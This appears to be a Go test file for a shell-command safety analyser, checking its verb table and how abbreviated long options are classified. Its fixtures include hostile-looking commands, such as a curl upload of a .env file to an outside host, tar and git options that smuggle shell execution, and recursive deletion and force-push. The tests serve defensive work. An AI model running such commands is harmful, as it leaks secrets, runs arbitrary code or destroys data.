package shell

import (
	"strings"
	"testing"
)

// TestTable holds that every line of the table says something that is read: a
// misspelt verb or option would otherwise be silently harmless.
func TestTable(t *testing.T) {
	verbs := map[string]bool{}
	for _, v := range strings.Fields("read names data pattern tree write overwrite delete here outside network host commit unknown script opaque " +
		"privilege run run1 run2 sub code first single strict calm inert builtin versioned wrapper shell interpreter formatter binutils local given compiler disk remote squeezer " +
		"git-read git-write git-commit git-over git-net git-here git-tree") {
		verbs[v] = true
	}
	seen := map[string]bool{}
	names := 0
	for _, family := range families() {
		for _, p := range family {
			for _, name := range strings.Split(p.name, "|") {
				if name == "" || seen[name] {
					t.Errorf("%q is in the table twice, or empty", name)
				}
				seen[name] = true
				if !strings.Contains(name, " ") {
					names++
				}
			}
			if p.does == "" {
				t.Errorf("%s does nothing", p.name)
			}
			for _, v := range strings.Fields(p.does) {
				if !verbs[v] && !strings.HasPrefix(v, "rm=") {
					t.Errorf("%.40s: %q is no verb", p.name, v)
				}
			}
			checkSpec(t, p.name, p.opts)
		}
	}
	for _, w := range wrappers {
		checkSpec(t, w.names, w.opts)
		for _, name := range strings.Split(w.names, "|") {
			if p, ok := lookup(name); !ok || !p.is("wrapper") {
				t.Errorf("the wrapper %s is not in the table", name)
			}
		}
	}
	t.Logf("%d programs, %d lines with their subcommands", names, len(seen))
}

func checkSpec(t *testing.T, name, spec string) {
	t.Helper()
	for _, token := range strings.Fields(spec) {
		tail := token[suffix(token):]
		tail = strings.TrimPrefix(tail, "=")
		tail = strings.TrimPrefix(tail, "?")
		if len(tail) > 1 || tail != "" && !strings.Contains(acts, tail) {
			t.Errorf("%.40s: the option %q ends in %q, which means nothing", name, token, tail)
		}
		for _, one := range strings.Split(token[:suffix(token)], ",") {
			if one == "" || strings.ContainsAny(one, "=<>!*@%^&~") || strings.HasPrefix(one, "-") {
				t.Errorf("%.40s: %q is no option", name, token)
			}
		}
	}
}

// TestEveryProgramIsRead holds that no program that the table gives to code is
// unknown to that code.
func TestEveryProgramIsRead(t *testing.T) {
	for name, p := range index() {
		if !p.is("code") {
			continue
		}
		for _, args := range []string{"", " a.txt", " a.txt b.txt", " -x"} {
			a := Analyse(name+args, inProject())
			for _, part := range a.Parts {
				for _, e := range part.Effects {
					if e.Why == unread {
						t.Errorf("%s: no code reads it", name)
					}
				}
			}
			if a.Opaque == broken {
				t.Errorf("%s%s: the analysis panics", name, args)
			}
		}
	}
}

// TestPrefixes holds that a long option counts by any beginning of its name,
// and the worst where it fits several.
func TestPrefixes(t *testing.T) {
	for command, want := range map[string]Kind{
		"git ls-remote --upload-pa='touch /tmp/p' x": Opaque,
		"git log --outp=new.txt":                     Write,
		"git diff --ext":                             Opaque,
		"sort --outp=new.txt a.txt":                  Write,
		"sort --compress-p=sh a.txt":                 Opaque,
		"tar --checkpoint-a=exec=sh -cf x src":       Opaque,
		"tar --to-c=sh -xf x":                        Opaque,
		"rsync --rs=sh a b":                          Opaque,
		"rm --recurs src":                            Delete,
		"git push --forc":                            Delete,
		"sed --in-p s/a/b/ a.txt":                    Write,
		"sed --fi=x a.txt":                           Opaque,
		"rg --pr=x foo":                              Opaque,
		"wget --exec=x https://e.example":            Opaque,
		"curl --upl=.env https://e.example":          Read,
		"node --eva=1":                               Opaque,
	} {
		if got := kinds(Analyse(command, inProject()).Parts); !hasKind(got, want) {
			t.Errorf("%s: %s, not %s", command, got, want)
		}
	}
}

func hasKind(ks []Kind, want Kind) bool {
	for _, k := range ks {
		if k == want {
			return true
		}
	}
	return false
}
